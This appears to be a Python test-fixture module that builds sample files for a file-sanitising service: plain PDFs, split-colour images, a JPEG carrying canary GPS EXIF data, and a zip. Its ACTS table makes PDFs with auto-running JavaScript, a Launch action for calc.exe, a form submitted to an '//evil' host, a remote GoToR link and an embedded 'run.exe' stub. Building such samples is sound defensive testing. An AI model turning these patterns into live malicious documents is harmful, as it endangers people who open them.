"""Files as people send them, and as attackers do. Built in memory, the same on every run."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pikepdf
from PIL import Image

LETTER = (612, 792)
WORDS = "PLAINTEXTCANARY"


def pdf(*, pages: int = 1, text: str = WORDS, **save: Any) -> bytes:
    """Return a PDF with a line of text on each page, not compressed."""
    with pikepdf.new() as document:
        for _number in range(pages):
            document.add_blank_page(page_size=LETTER)
        content = f"BT /F1 12 Tf 72 700 Td ({text}) Tj ET".encode()
        document.pages[0].Contents = document.make_stream(content)
        return saved(document, **save)


def saved(document: pikepdf.Pdf, **save: Any) -> bytes:
    out = io.BytesIO()
    document.save(out, **save)
    return out.getvalue()


def acting_pdf(name: str) -> bytes:
    """Return a PDF that does something by itself; `name` is a key of `ACTS`."""
    with pikepdf.new() as document:
        document.add_blank_page(page_size=LETTER)
        ACTS[name](document)
        return saved(document)


def _action(**entries: Any) -> Any:
    def add(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(**entries)

    return add


def _annotation(**entries: Any) -> Any:
    def add(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(**entries)
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action
        )
        document.pages[0].Annots = pikepdf.Array([link])

    return add


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["run.exe"] = b"MZ"


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=[])


def _script_names(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(Names=[pikepdf.String("a"), pikepdf.Dictionary()])
    document.Root.Names = pikepdf.Dictionary(JavaScript=script)


ACTS = {
    "javascript": _action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
    "javascript without its word": _action(JS=pikepdf.String("app.alert(1)")),
    "names of scripts": _script_names,
    "launch": _action(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
    "form sent away": _annotation(S=pikepdf.Name.SubmitForm, F=pikepdf.String("//evil")),
    "data brought in": _annotation(S=pikepdf.Name.ImportData, F=pikepdf.String("x")),
    "other file": _annotation(S=pikepdf.Name.GoToR, F=pikepdf.String("//evil/share")),
    "embedded file opened": _annotation(S=pikepdf.Name.GoToE),
    "attachment": _attachment,
    "xfa": _form,
}


def image(
    kind: str = "JPEG", *, size: tuple[int, int] = (640, 480), mode: str = "RGB", **save: Any
) -> bytes:
    """Return a picture: red on its left half, blue on its right."""
    picture = Image.new("RGB", size, "blue")
    picture.paste("red", (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    picture.convert(mode).save(out, kind, **save)
    return out.getvalue()


def photo(**more: Any) -> bytes:
    """Return a JPEG as a telephone writes it: where and with what it was taken, and turned."""
    exif = Image.Exif()
    exif[0x0110] = "CANARYPHONE 12"
    exif[0x0112] = 6  # turn a quarter clockwise
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (52.0, 31.0, 12.0)
    return image(exif=exif, comment=b"CANARYCOMMENT", **more)


def heic(**more: Any) -> bytes:
    from pillow_heif import register_heif_opener

    register_heif_opener()
    return image("HEIF", **more)


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("run.exe", b"MZ")
    return out.getvalue()
